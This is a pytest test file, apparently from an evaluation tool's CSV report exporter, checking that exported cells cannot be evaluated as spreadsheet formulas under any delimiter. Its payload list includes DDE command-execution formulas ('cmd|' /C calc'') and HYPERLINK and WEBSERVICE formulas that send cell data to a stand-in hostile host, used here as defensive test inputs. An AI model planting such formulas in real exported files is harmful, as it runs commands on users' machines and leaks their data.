"""A spreadsheet evaluates no cell of a CSV file, whatever its delimiter."""

import csv
import io
import re
import time

import pytest

from trioeval.report.formats.csv import _line, inert_cell

pytestmark = pytest.mark.attack("spreadsheets")

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "- 2+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://hostile.invalid?"&A1,"x")',
    '=WEBSERVICE("https://hostile.invalid")',
    "＝1+1",
    "＠SUM(1)",
    "＋cmd()",
    "－cmd()",
]
BEFORE = [
    "",
    ";",
    "a;",
    "a; ",
    "\t",
    "a\t",
    "a\n",
    "a\r\n",
    "a\r",
    "a;\u200b",
    'a";',
    'a;"',
    "x;y\t",
    ";;",
    "\v",
    "a\f",
]
_STARTS = re.compile('["\\s\\x00-\\x20\u00a0\u200b\ufeff]*[=@+\\-＝＠＋－]')
_HARMLESS = re.compile(r"[-+]?[\d.]+|[-+] [^|(!]*")


@pytest.mark.parametrize("before", BEFORE, ids=ascii)
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_dialect_finds_a_formula(formula: str, before: str) -> None:
    """This covers commas, semicolons and tabs, with and without quotes; neighbouring cells are plain."""
    text = _line(["first", f"{before}{formula}", "last"], escape=True)
    for delimiter in ",;\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for line in csv.reader(
                io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting
            ):
                found = [cell for cell in line if _STARTS.match(cell)]
                assert all(map(_HARMLESS.fullmatch, found)), (delimiter, quoting, found)


@pytest.mark.parametrize(
    "text",
    [
        "A list:\n- one\n- two; three\n+ four",
        "Heading\n=======\ntext\n---\nmore",
        "a = b; c == d",
        "x;y\tz",
        "me@example.org; you@example.org",
        "-1.5",
        "1; 2; 3",
    ],
)
def test_plain_texts_are_unchanged(text: str) -> None:
    """This covers lists, headings, code and numbers."""
    assert inert_cell(text) == text


@pytest.mark.parametrize("text", ["\n" * 200_000, ";" * 200_000, "; \t" * 70_000, "\n- " * 70_000])
def test_long_cells_are_checked_in_linear_time(text: str) -> None:
    """Each character is examined a few times, not once for each other one."""
    began = time.process_time()
    inert_cell(text)
    assert time.process_time() - began < 2
